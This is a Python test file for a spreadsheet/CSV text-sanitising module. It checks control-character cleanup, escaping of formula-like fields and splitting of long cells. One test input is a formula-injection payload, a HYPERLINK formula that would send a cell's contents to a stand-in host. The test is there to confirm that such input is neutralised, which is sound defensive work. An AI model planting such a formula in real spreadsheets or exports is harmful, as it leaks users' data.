"""The one rule for spreadsheet and CSV text (bot.domain.cells)."""

import pytest

from bot.domain.cells import CELL_LIMIT, clean, csv_field, formula_like, split_cell


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("征迁\x0b完成", "征迁\n完成"),  # Word's soft line break
        ("a\x00b\x07c", "abc"),
        ("正常\t文本\r\n换行", "正常\t文本\r\n换行"),
        ("坏\ufffe字\uffff符", "坏字符"),
        ("孤\ud800立", "孤立"),
    ],
)
def test_clean(text: str, expected: str) -> None:
    assert clean(text) == expected


@pytest.mark.parametrize(
    ("text", "field"),
    [
        ('=HYPERLINK("http://x?leak="&A1,"点击")', '\'=HYPERLINK("http://x?leak="&A1,"点击")'),
        ("+1", "'+1"),
        ("-5%", "'-5%"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("发改局", "发改局"),
        ("\x00=1", "'=1"),
    ],
)
def test_csv_field(text: str, field: str) -> None:
    assert csv_field(text) == field
    assert not formula_like(field)


def test_split_cell_keeps_everything_and_fits() -> None:
    text = "进" * 80_000
    note = "（未完，续见「续表」）"
    parts = split_cell(text, note)
    assert len(parts) == 3
    assert all(len(p) <= CELL_LIMIT for p in parts)
    assert "".join(p.removesuffix(note) for p in parts) == text
    assert split_cell("短", note) == ["短"]
